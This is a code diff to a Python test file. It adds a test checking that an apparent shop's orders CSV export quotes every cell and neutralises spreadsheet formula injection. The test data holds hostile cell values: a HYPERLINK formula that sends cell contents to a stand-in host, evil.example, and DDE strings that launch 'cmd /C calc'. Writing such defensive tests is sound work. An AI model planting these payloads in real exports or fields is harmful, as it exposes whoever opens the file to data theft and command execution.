@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import datetime, timedelta
 
 import pytest
@@ -25,7 +26,9 @@ DAY1 = (utcnow() - timedelta(days=10)).replace(hour=10, minute=0, second=0, micr
 
 def _signed_in(session, visitor: str, now: datetime | None = None) -> str:
     """The owner's admin token, as the dashboard gets it: the password, then the grant traded once."""
-    done = sign_in(session=session, visitor_id=visitor, client_ip="192.0.2.1", password=ADMIN_PASSWORD, now=now)
+    done = sign_in(
+        session=session, visitor_id=visitor, client_ip="192.0.2.1", password=ADMIN_PASSWORD, now=now
+    )
     return redeem_grant(session=session, grant=done.grant, visitor_id=visitor, now=now)
 
 
@@ -144,3 +147,35 @@ def test_exceptions_inbox_unprocessable_overdue_and_resolution(session, admin, k
     later = now + timedelta(days=3)  # C becomes overdue too (and the owner, idle for 3 days, signs in again)
     again = _signed_in(session, new_visitor(), now=later)
     assert {e.reference for e in exceptions(session=session, admin=again, now=later)} == {"evt_bad", c.id}
+
+
+def test_csv_quotes_every_cell_and_no_part_of_one_can_run_as_a_formula(session, admin, known) -> None:
+    """What a buyer typed, read the way a spreadsheet might: quote-aware with `,`, or split on `;` (a
+    semicolon locale), where what follows each `;` starts a cell of its own."""
+    a, b, _c = known
+    hostile = {
+        "ship_name": 'Bob;=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "ship_line1": "1 Main St; +1+cmd|' /C calc'!A0",
+        "ship_city": ';@SUM(1+1)*cmd|" /C calc"!A0',
+        "ship_state": 'x; "=1+1"',
+        "ship_line2": "Flat 2;\t=2+3",
+        "phone": "+1 555 0100",
+    }
+    session.exec(sa.update(Order).where(Order.id == a.id).values(**hostile))
+    session.commit()
+    text = orders_csv(session=session, admin=admin)
+
+    lines = text.split("\r\n")
+    assert all(line.startswith('"') and line.endswith('"') for line in lines if line)  # QUOTE_ALL
+    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["order_id"] == a.id)
+    assert row["ship_name"] == 'Bob;\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert row["ship_line1"] == "1 Main St;' +1+cmd|' /C calc'!A0"
+    assert row["ship_city"] == ';\'@SUM(1+1)*cmd|" /C calc"!A0'  # a cell starting with `;`
+    assert row["ship_state"] == 'x;\' "=1+1"'
+    assert row["ship_line2"] == "Flat 2;'\t=2+3"
+    assert row["phone"] == "'+1 555 0100"
+    assert row["items"] == "2 x Morning Mug; 1 x Canvas Tote"  # a `;` before plain text stays as it was
+    formula = re.compile(r'^[\s"]*[=+\-@]|^[\t\r]')
+    for line in lines:  # every piece a `;`-splitting spreadsheet would see starts harmlessly
+        for piece in line.split(";"):
+            assert not formula.match(piece), piece
